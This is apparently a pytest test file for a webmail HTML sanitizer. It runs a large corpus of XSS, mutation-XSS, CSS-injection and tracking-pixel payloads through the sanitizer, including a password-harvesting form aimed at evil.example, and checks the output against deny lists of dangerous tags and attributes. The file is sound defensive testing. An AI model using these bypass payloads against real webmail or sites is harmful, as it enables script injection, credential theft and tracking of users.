"""The HTML mail sanitizer against a corpus of known webmail XSS and tracking payloads.

Every payload is cleaned with remote content blocked and allowed; the output is
parsed again and must hold nothing that runs script, changes the document's
base, submits or navigates by itself, or (when blocked) loads anything from
another host. Cleaning the output again must not change it: a sanitizer whose
output re-parses differently is where mutation XSS lives.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from html.parser import HTMLParser

import pytest

from mailbox.sanitize import sanitize_html

PROXY = "https://mail.example/proxy/image/?u="


def proxy_url(url: str) -> str:
    from urllib.parse import quote

    return PROXY + quote(url, safe="")


XSS_CORPUS: list[str] = [
    # script, in and out of foreign content
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    '<math><script xlink:href="javascript:alert(1)">x</script></math>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    # SVG animation and reference tricks
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1h'
    'Z2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"></use></svg>',
    '<svg><use xlink:href="https://evil.example/sprite.svg#x"/></svg>',
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>",
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><set attributeName="xlink:href" to="javascript:alert(2)"/>x</a></svg>',
    '<svg><filter id="f"><feImage href="https://evil.example/track.png"/></filter><rect filter="url(#f)"/></svg>',
    '<svg><feImage xlink:href="javascript:alert(1)"/></svg>',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    '<svg><foreignObject><img src=x onerror="alert(1)"></foreignObject></svg>',
    '<svg><image href="https://evil.example/t.png" /></svg>',
    '<math><mi xlink:href="javascript:alert(1)">click</mi></math>',
    '<math href="javascript:alert(1)">click</math>',
    # CSS
    "<style>@import 'https://evil.example/x.css';</style><p>x</p>",
    '<p style="@import url(https://evil.example/x.css)">x</p>',
    "<div style=\"width: expression(alert('XSS'));\">x</div>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="background-image: url(&quot;javascript:alert(1)&quot;)">x</div>',
    '<div style="background:url(https://evil.example/track.png)">x</div>',
    '<div style="background:u\\72l(https://evil.example/escaped.png)">x</div>',
    '<div style="background:/**/url(https://evil.example/comment.png)">x</div>',
    '<div style="background-image:image-set(&quot;https://evil.example/set.png&quot; 1x)">x</div>',
    '<div style="behavior: url(https://evil.example/x.htc); -moz-binding: url(https://evil.example/x.xml#x)">x</div>',
    '<div style="list-style: url(https://evil.example/bullet.png)"><li>x</li></div>',
    '<div style="border-image: url(https://evil.example/b.png) 30 round">x</div>',
    '<div style="cursor: url(https://evil.example/c.cur), auto">x</div>',
    '<div style="color:red}body{background:url(https://evil.example/brace.png)">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">overlay</div>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel=import href="https://evil.example/x.html">',
    # javascript:, vbscript:, data: links in their many spellings
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&colon;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="DATA:text/html,x">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    '<a href="/relative/path">x</a>',
    '<a href="#fragment" target="_self">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    # mutation XSS
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<template><img src=x onerror=alert(1)></template>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    '<noframes><p title="</noframes><img src onerror=alert(1)>"></noframes>',
    '<textarea><p title="</textarea><img src onerror=alert(1)>"></textarea>',
    '<iframe><p title="</iframe><img src onerror=alert(1)>"></iframe>',
    "<title><img src onerror=alert(1)></title>",
    "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
    # CDATA and comment tricks
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if IE]><img src=x onerror=alert(1)><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<?xml-stylesheet href=https://evil.example/x.xsl?><p>x</p>",
    # document-level and navigation
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta http-equiv="set-cookie" content="a=b">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<form action="https://evil.example/steal"><input name=password><button>Go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input type="image" src="https://evil.example/i.png" formaction="javascript:alert(1)">',
    '<isindex action="javascript:alert(1)" type=image>',
    '<object data="javascript:alert(1)"></object>',
    '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<embed src="javascript:alert(1)">',
    '<applet code="X.class" codebase="https://evil.example/"></applet>',
    # event handlers in every case
    "<img src=x onerror=alert(1)>",
    "<img src=x ONERROR=alert(1)>",
    "<img src=x OnErRoR=alert(1)>",
    "<body onload=alert(1)>",
    "<BODY ONLOAD=alert(1)>",
    '<div onmouseover="alert(1)">x</div>',
    '<p onclick="alert(1)" ONFOCUS=alert(2) tabindex=1 autofocus>x</p>',
    '<details open ontoggle="alert(1)">x</details>',
    '<a href="https://ok.example/" onclick="alert(1)">ok</a>',
    "<img src=x one rror=alert(1)>",
    '<img/src="x"/onerror=alert(1)>',
    "<img src=`x` onerror=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<marquee onstart=alert(1)>x</marquee>",
    # remote content and tracking
    '<img src="https://tracker.example/pixel.gif" width=1 height=1>',
    '<img src="http://tracker.example/pixel.gif">',
    '<img src="//tracker.example/pixel.gif">',
    '<img srcset="https://tracker.example/a.png 1x, https://tracker.example/b.png 2x">',
    '<img src="https://tracker.example/a.png" srcset="https://tracker.example/b.png 2x">',
    '<picture><source srcset="https://tracker.example/p.webp"><img src="https://tracker.example/p.png"></picture>',
    '<video poster="https://tracker.example/poster.png" src="https://tracker.example/v.mp4"></video>',
    '<audio src="https://tracker.example/a.mp3" autoplay></audio>',
    '<table background="https://tracker.example/bg.png"><tr><td background="https://tracker.example/td.png">x</td></tr></table>',
    '<body background="https://tracker.example/body.png">x</body>',
    '<input type="image" src="https://tracker.example/i.png">',
    '<a href="https://ok.example/" ping="https://tracker.example/ping">x</a>',
    '<img src="https://tracker.example/x.png" longdesc="https://tracker.example/l">',
    '<img lowsrc="https://tracker.example/low.png" dynsrc="https://tracker.example/d.avi">',
    '<div style="background-image:url(&#39;https://tracker.example/bg.png&#39;)">x</div>',
    '<div style="background: #fff url(//tracker.example/bg.png) no-repeat">x</div>',
]

DANGEROUS_TAGS = {
    "script", "style", "svg", "math", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "meta",
    "link", "form", "input", "button", "textarea", "select", "isindex", "video", "audio", "source", "picture",
    "template", "noscript", "xmp", "noembed", "noframes", "title", "use", "animate", "set", "feimage", "image",
    "foreignobject", "marquee", "body", "html", "head",
}  # fmt: skip
REQUEST_ATTRIBUTES = {
    "src", "srcset", "background", "poster", "data", "action", "formaction", "ping", "longdesc", "lowsrc", "dynsrc",
    "codebase", "cite", "xlink:href", "srcdoc", "manifest", "icon", "profile",
}  # fmt: skip
IMAGE_ATTRIBUTES = {("src", "img"), ("background", "table"), ("background", "td"), ("background", "th"),
                    ("background", "tr")}  # fmt: skip
SAFE_DATA_IMAGE = re.compile(r"^data:image/(png|jpeg|gif|webp);base64,", re.IGNORECASE)
BAD_CSS = ("url(", "expression", "@import", "javascript", "vbscript", "behavior", "-moz-binding", "image-set", "\\")


@dataclass
class Parsed:
    tags: list[tuple[str, list[tuple[str, str]]]] = field(default_factory=list)


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parsed = Parsed()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.parsed.tags.append((tag.lower(), [(k.lower(), v or "") for k, v in attrs]))

    handle_startendtag = handle_starttag


def parse(html: str) -> Parsed:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.parsed


class _Structure(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.items: list[object] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.items.append((tag, sorted(attrs, key=lambda kv: kv[0])))

    def handle_endtag(self, tag: str) -> None:
        self.items.append(("/", tag))

    def handle_data(self, data: str) -> None:
        self.items.append(data)


def structure(html: str) -> list[object]:
    """Elements, attributes (in any order) and text: what a browser would build."""
    parser = _Structure()
    parser.feed(html)
    parser.close()
    return parser.items


def browser_url(value: str) -> str:
    """A URL attribute value as a browser would read it (controls, tabs and newlines ignored)."""
    value = value.strip("".join(chr(c) for c in range(0x21)))
    return re.sub(r"[\t\n\r]", "", value)


RAW_MARKUP = re.compile(
    r"<\s*/?\s*(script|svg|math|style|iframe|frame|object|embed|applet|base|meta|link|form|input|button|template"
    r"|noscript|xmp|textarea|select|video|audio|source|use|animate|set|feimage|image)\b"
    r"|<[^>]*[\s/\"']on[a-z]+\s*=",
    re.IGNORECASE,
)


def assert_safe(html: str, *, remote_allowed: bool) -> None:
    # Text is escaped (&lt;), so a literal "<" always starts real markup.
    assert not RAW_MARKUP.search(html), f"markup survived: {html!r}"
    for tag, attrs in parse(html).tags:
        assert tag not in DANGEROUS_TAGS, f"<{tag}> survived in {html!r}"
        for name, value in attrs:
            assert not name.startswith("on"), f"event handler {name} survived in {html!r}"
            url = browser_url(value).lower()
            assert not url.startswith(("javascript:", "vbscript:", "livescript:")), f"{name}={value!r} in {html!r}"
            if url.startswith("data:"):
                assert tag == "img" and name == "src" and SAFE_DATA_IMAGE.match(url), f"{name}={value!r} in {html!r}"
            if name == "style":
                lowered = value.lower()
                if remote_allowed:
                    # Only the proxy, inside background url(): nothing else may remain.
                    lowered = re.sub(r'url\("' + re.escape(PROXY.lower()) + r'[^"]*"\)', "", lowered)
                for bad in BAD_CSS:
                    assert bad not in lowered, f"style {value!r} in {html!r}"
                assert "position" not in lowered and "z-index" not in lowered
            if name in REQUEST_ATTRIBUTES:
                assert (name, tag) in IMAGE_ATTRIBUTES, f"{name} on <{tag}> in {html!r}"
                if url.startswith(("http:", "https:", "//")):
                    assert remote_allowed, f"remote {name}={value!r} with remote content blocked: {html!r}"
                    assert value.startswith(PROXY), f"{name}={value!r} does not go through the proxy"
                else:
                    assert url.startswith(("data:", "cid:")), f"{name}={value!r} in {html!r}"
            if name == "href":
                assert tag == "a", f"href on <{tag}>"
                assert url.startswith(("http:", "https:", "mailto:")), f"href={value!r} in {html!r}"
            if name == "target":
                assert value == "_blank"
        if tag == "a":
            rel = dict(attrs).get("rel", "")
            assert set(rel.split()) >= {"noopener", "noreferrer", "nofollow"}, f"rel={rel!r}"


@pytest.mark.parametrize("allow_remote", [False, True], ids=["blocked", "allowed"])
@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_payload_is_neutralized(payload: str, allow_remote: bool) -> None:
    result = sanitize_html(payload, allow_remote=allow_remote, proxy_url=proxy_url)
    assert_safe(result.html, remote_allowed=allow_remote)


@pytest.mark.parametrize("allow_remote", [False, True], ids=["blocked", "allowed"])
@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_output_is_stable_when_parsed_again(payload: str, allow_remote: bool) -> None:
    once = sanitize_html(payload, allow_remote=allow_remote, proxy_url=proxy_url).html
    twice = sanitize_html(once, allow_remote=False, proxy_url=proxy_url).html
    if not allow_remote:
        assert structure(twice) == structure(once)
    else:
        assert_safe(twice, remote_allowed=False)


def test_the_whole_corpus_at_once_is_safe() -> None:
    """Payloads that are harmless alone can combine across element boundaries."""
    html = "\n".join(XSS_CORPUS)
    for allow_remote in (False, True):
        assert_safe(
            sanitize_html(html, allow_remote=allow_remote, proxy_url=proxy_url).html, remote_allowed=allow_remote
        )


def test_no_script_or_handler_text_survives_as_markup() -> None:
    html = sanitize_html("\n".join(XSS_CORPUS), allow_remote=False, proxy_url=proxy_url).html
    for _tag, attrs in parse(html).tags:
        for name, value in attrs:
            assert "alert(" not in value or name == "title", (name, value)


# --- what a reader notices --------------------------------------------------------------


def test_ordinary_mail_keeps_its_formatting_and_links() -> None:
    html = (
        '<h1>News</h1><p style="color: #333; font-size: 14px">Hello <b>there</b>, see '
        '<a href="https://example.org/post?a=1&amp;b=2">the post</a>.</p>'
        '<table width="600" cellpadding="4"><tr><td bgcolor="#eeeeee" align="center">cell</td></tr></table>'
        '<ul><li>one</li></ul><blockquote>quoted</blockquote><img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">'
    )
    result = sanitize_html(html, allow_remote=False, proxy_url=proxy_url)
    out = result.html
    assert "<h1>News</h1>" in out
    assert 'style="color:#333;font-size:14px"' in out
    assert 'href="https://example.org/post?a=1&amp;b=2"' in out
    assert 'target="_blank"' in out and 'rel="noopener noreferrer nofollow"' in out
    assert 'bgcolor="#eeeeee"' in out and 'width="600"' in out
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in out
    assert not result.has_remote and not result.remote_blocked


def test_mailto_links_stay() -> None:
    out = sanitize_html('<a href="mailto:bob@example.org">mail</a>', allow_remote=False, proxy_url=proxy_url).html
    assert 'href="mailto:bob@example.org"' in out


def test_remote_image_is_removed_and_reported_when_blocked() -> None:
    result = sanitize_html(
        '<p>Hi</p><img src="https://tracker.example/p.gif" alt="logo">', allow_remote=False, proxy_url=proxy_url
    )
    assert "tracker.example" not in result.html
    assert 'alt="logo"' in result.html
    assert result.has_remote and result.remote_blocked


def test_remote_image_goes_through_the_proxy_when_allowed() -> None:
    result = sanitize_html('<img src="https://tracker.example/p.gif">', allow_remote=True, proxy_url=proxy_url)
    assert 'src="https://mail.example/proxy/image/?u=https%3A%2F%2Ftracker.example%2Fp.gif"' in result.html
    assert result.has_remote and not result.remote_blocked


def test_css_background_goes_through_the_proxy_when_allowed() -> None:
    html = '<div style="color:red;background:#fff url(https://cdn.example/bg.png) no-repeat">x</div>'
    blocked = sanitize_html(html, allow_remote=False, proxy_url=proxy_url)
    assert blocked.html == '<div style="color:red">x</div>'
    assert blocked.remote_blocked
    allowed = sanitize_html(html, allow_remote=True, proxy_url=proxy_url)
    assert "url(&quot;https://mail.example/proxy/image/?u=https%3A%2F%2Fcdn.example%2Fbg.png&quot;)" in allowed.html
    assert "cdn.example/bg.png" not in allowed.html.replace("%2F", "/").split("u=")[0]


def test_links_alone_are_not_remote_content() -> None:
    result = sanitize_html('<a href="https://example.org/">x</a>', allow_remote=False, proxy_url=proxy_url)
    assert not result.has_remote and not result.remote_blocked


def test_blocked_content_that_allowing_would_not_load_does_not_ask() -> None:
    # Scripts, stylesheets and frames are never loaded, so there is nothing to allow.
    result = sanitize_html(
        '<link rel=stylesheet href="https://evil.example/x.css"><iframe src="https://evil.example/"></iframe>',
        allow_remote=False,
        proxy_url=proxy_url,
    )
    assert not result.remote_blocked


@pytest.mark.parametrize(
    "style",
    [
        'background-image: image("https://evil.example/i.png")',
        'background: -webkit-image-set("https://evil.example/i.png" 1x)',
        "background: cross-fade(url(https://evil.example/a.png), url(https://evil.example/b.png), 50%)",
        'background: src("https://evil.example/s.png")',
        "background: u\\rl(https://evil.example/e.png)",
        "background: ur/**/l(https://evil.example/c.png)",
    ],
)
def test_no_css_function_loads_anything_when_blocked(style: str) -> None:
    html = sanitize_html(f"<div style='{style}'>x</div>", allow_remote=False, proxy_url=proxy_url).html
    assert "evil.example" not in html


def test_a_message_gets_a_bounded_number_of_proxied_images() -> None:
    from mailbox.sanitize import MAX_PROXIED_IMAGES

    html = "".join(f'<img src="https://cdn.example/{n}.png">' for n in range(MAX_PROXIED_IMAGES + 50))
    result = sanitize_html(html, allow_remote=True, proxy_url=proxy_url)
    assert result.html.count("<img") == MAX_PROXIED_IMAGES + 50
    assert result.html.count('src="' + PROXY) == result.html.count("src=") == MAX_PROXIED_IMAGES
    assert_safe(result.html, remote_allowed=True)
